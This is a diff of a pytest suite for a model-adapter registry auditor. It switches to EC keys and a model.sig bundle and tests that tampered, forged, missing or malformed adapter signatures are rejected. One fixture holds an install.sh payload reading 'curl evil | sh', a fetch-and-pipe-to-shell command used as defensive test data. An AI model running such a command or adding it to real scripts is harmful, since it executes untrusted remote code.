@@ -14,7 +14,7 @@ from pathlib import Path
 
 import numpy as np
 import pytest
-from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
 from registry_fixtures import (
     BASE_SHA,
     ROTATIONS,
@@ -28,9 +28,10 @@ from registry_fixtures import (
     make_export,
     make_stats,
     make_tensors,
+    manifest_bytes,
     new_key,
     read_payload,
-    sign_manifest,
+    sign_export_files,
     write_tree_head,
 )
 
@@ -57,8 +58,8 @@ NOW = T0 + timedelta(hours=2)
 class Repo:
     path: Path
     state: Path
-    server: list[Ed25519PrivateKey]
-    clients: list[Ed25519PrivateKey]
+    server: list[EllipticCurvePrivateKey]
+    clients: list[EllipticCurvePrivateKey]
 
     def audit(self, now=NOW, config: AuditConfig | None = None) -> AuditReport:  # type: ignore[no-untyped-def]
         return audit_registry(self.path, self.state, now, config=config)
@@ -86,7 +87,7 @@ def repo(tmp_path: Path) -> Repo:
     return r
 
 
-def _keyid(key: Ed25519PrivateKey) -> str:
+def _keyid(key: EllipticCurvePrivateKey) -> str:
     return signing.fingerprint(signing.public_key_bytes(key))
 
 
@@ -96,7 +97,6 @@ def _relist(payload: dict, index: int, folder: Path, names: tuple[str, ...]) -> 
     for name in names:
         data = (folder / name).read_bytes()
         entry["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "length": len(data)}
-    entry["client_signature"] = (folder / "manifest.sig").read_bytes().hex()
 
 
 # ---------------------------------------------------------------- arbitrary installation
@@ -125,7 +125,7 @@ def test_tampered_statistics_rejected(repo: Repo) -> None:
     files = make_export(client, seed=5)
     files["norm_stats.json"] = make_stats(mean=0.1, std=0.01)
     inject_adapter(repo.path, repo.server, client, files)
-    repo.rejects(RegistryError, "norm_stats.json has sha256 .* but the manifest signed")
+    repo.rejects(RegistryError, "norm_stats.json has sha256 .* but the signature covers")
 
 
 def test_routing_hijack_statistics_swap_rejected(repo: Repo) -> None:
@@ -135,7 +135,7 @@ def test_routing_hijack_statistics_swap_rejected(repo: Repo) -> None:
     inject_adapter(repo.path, repo.server, repo.clients[0], a)
     inject_adapter(repo.path, repo.server, repo.clients[1], b)
     repo.rejects(
-        RegistryError, "2 of 4 adapter(.|\n)*norm_stats.json has sha256 .* but the manifest signed"
+        RegistryError, "2 of 4 adapter(.|\n)*norm_stats.json has sha256 .* but the signature covers"
     )
 
 
@@ -145,17 +145,15 @@ def test_forged_client_signature_rejected(repo: Repo) -> None:
     victim, attacker = repo.clients[0], new_key()
     files = make_export(victim, seed=5)
     files["norm_stats.json"] = make_stats(mean=0.1, std=0.01)
-    payload = {n: files[n] for n in ("adapter_config.json", "adapter_model.safetensors")}
-    payload["norm_stats.json"] = files["norm_stats.json"]
-    files["manifest.json"], _ = sign_manifest(victim, payload, name="domain-5")
-    files["manifest.sig"] = signing.sign(attacker, files["manifest.json"])
+    signed = {n: b for n, b in files.items() if n != "model.sig"}
+    files = sign_export_files(attacker, signed, name="domain-5")
     inject_adapter(repo.path, repo.server, victim, files)
-    repo.rejects(RegistryError, "signature does not verify for key")
+    repo.rejects(RegistryError, "model.sig was made by another key")
 
 
 def test_missing_client_signature_rejected(repo: Repo) -> None:
-    (adapter_dir(repo.path) / "manifest.sig").unlink()
-    repo.rejects(RegistryError, "manifest.sig is missing: the client signature")
+    (adapter_dir(repo.path) / "model.sig").unlink()
+    repo.rejects(RegistryError, "model.sig is missing: the client's model-signing bundle")
 
 
 # ---------------------------------------------------------------- allow-list
@@ -332,8 +330,8 @@ def test_malformed_safetensors_rejected(repo: Repo) -> None:
 def test_malformed_manifest_rejected(repo: Repo) -> None:
     client = repo.clients[0]
     files = make_export(client, seed=7)
-    files["manifest.json"] = b'{"format_version": 1, "files": '  # signed, but not JSON
-    files["manifest.sig"] = signing.sign(client, files["manifest.json"])
+    files["manifest.json"] = b'{"format_version": 2, "name": '  # signed, but not JSON
+    files = sign_export_files(client, {n: b for n, b in files.items() if n != "model.sig"})
     inject_adapter(repo.path, repo.server, client, files)
     repo.rejects(RegistryError, "malformed: manifest.json is not valid JSON")
 
@@ -390,7 +388,9 @@ def test_extraneous_file_in_manifest_rejected(repo: Repo) -> None:
     payload = {n: files[n] for n in ("adapter_config.json", "adapter_model.safetensors")}
     payload["norm_stats.json"] = files["norm_stats.json"]
     payload["install.sh"] = b"curl evil | sh"
-    files["manifest.json"], files["manifest.sig"] = sign_manifest(client, payload)
+    payload["manifest.json"] = manifest_bytes(client)
+    files = sign_export_files(client, payload)  # the bundle signs install.sh too
+    del files["install.sh"]
     entry = entry_json(files, client)
     inject_adapter(repo.path, repo.server, client, files)
     assert read_payload(repo.path, 3)["entries"][-1] == entry
